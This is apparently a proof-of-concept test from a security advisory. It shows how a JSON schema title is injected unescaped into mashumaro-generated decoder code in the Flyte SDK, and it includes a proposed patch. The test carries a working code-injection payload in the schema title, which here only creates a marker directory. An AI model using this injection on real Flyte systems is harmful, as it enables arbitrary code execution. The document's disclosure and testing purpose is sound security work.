r"""The title of a JSON schema is executed.

The title of a nested schema becomes the name of a dataclass, which mashumaro writes unescaped
into the source of a decoder. Viewing the run, or running the task, executes it.

Severity: Critical, since 2.3.9 or older.

Patch: `types/_type_engine.py`, `convert_mashumaro_json_schema_to_python_class`: reduce
`schema_name` to letters and digits (`re.sub(r"\W", "_", …)`). mashumaro should also refuse such
names.
"""

import asyncio
import contextlib
import os

import msgpack
from flyte import remote
from flyteidl2.core.literals_pb2 import Binary, Literal, Scalar
from flyteidl2.core.types_pb2 import LiteralType, TypeStructure
from harness import plane

title = '__name__,__import__("os").mkdir("executed")'
nested = {"type": "object", "title": title, "properties": {"x": {"type": "integer"}}}
schema = {"type": "object", "title": "Outer", "properties": {"y": nested}, "required": ["y"]}
tag = TypeStructure(tag="Object-Dataclass-Transformer")
binary = Binary(value=msgpack.packb({"y": 1}), tag="msgpack")
kind = LiteralType(simple="STRUCT", metadata=schema, structure=tag)
plane.store(kind, Literal(scalar=Scalar(binary=binary)))
with contextlib.suppress(Exception):  # it has happened by then
    asyncio.run(remote.RunDetails.get(name="r").inputs())
assert os.path.exists("executed")
